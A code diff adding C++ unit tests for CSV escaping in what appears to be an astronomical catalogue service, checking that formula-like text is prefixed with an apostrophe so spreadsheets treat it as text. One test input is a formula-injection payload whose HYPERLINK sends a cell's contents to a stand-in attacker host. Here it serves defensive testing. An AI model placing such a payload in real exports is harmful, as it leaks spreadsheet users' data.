@@ -4,6 +4,7 @@
 #include "store/store_load.h"
 #include "vo/cone.h"
 #include "vo/cone_search.h"
+#include "vo/csv_table.h"
 #include "vo/result_formats.h"
 #include "vo/sky_position.h"
 #include "vo/text_encoding.h"
@@ -50,6 +51,32 @@ TEST(vo_text, CleanedEscapedAndQuoted) {
         EXPECT_EQ(xml_escaped(cleaned), c.xml);
         EXPECT_EQ(csv_field(cleaned), c.csv);
     }
+}
+
+// A text a spreadsheet would compute is marked as text, wherever its spaces are; any other
+// text, a minus sign inside one included, passes as it stands.
+TEST(vo_text, FormulasKeptFromSpreadsheets) {
+    struct {
+        const char* text;
+        const char* written;
+    } cases[] = {
+        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
+        {" =2*3", "' =2*3"},
+        {"+1", "'+1"},
+        {"-2", "'-2"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tx", "'\tx"},
+        {"  \rx ", "'  \rx "},
+        {"NGC 4486", "NGC 4486"},
+        {"J1234-0030", "J1234-0030"},
+        {"a=b", "a=b"},
+        {"'=1", "'=1"},
+        {"   ", "   "},
+        {"", ""},
+    };
+    for (const auto& c : cases)
+        EXPECT_EQ(spreadsheet_text(c.text), c.written) << c.text;
 }
 
 TEST(vo_cone, RequestsReadAndRefused) {
@@ -223,4 +250,18 @@ TEST(vo_results, CutNoticeLinksRepeatTheQuery) {
     std::string query = "results?ra_min=13+04+50&amp;dec_min=%2B24%22%3E%3Cb";
     for (const char* tail : {"&amp;format=votable\"", "&amp;format=csv\"", "&amp;rows=all\""})
         EXPECT_NE(notice.find("<a href=\"" + query + tail), std::string::npos) << tail;
+}
+
+// In the CSV download only the catalogue's texts are marked; a negative declination, as
+// number and as text, and a negative redshift stay numbers.
+TEST(vo_text, CsvMarksTheCatalogueTextsOnly) {
+    record entry = entry_at(1, 2, 3, -1, 4);
+    entry.redshift = -0.5;
+    entry.identification = string(" =2*3 ");
+    entry.reference = string("-Smith, J.");
+    text_sink out;
+    const record* first = &entry;
+    put_selection_csv(out, chain_reader(&first), 2000);
+    std::string rows = out.held.substr(out.held.find("\r\n") + 2);
+    EXPECT_EQ(rows, "01:02:3,-04:00:0,15.5125,-4,-0.5,'=2*3,\"'-Smith, J.\"\r\n");
 }
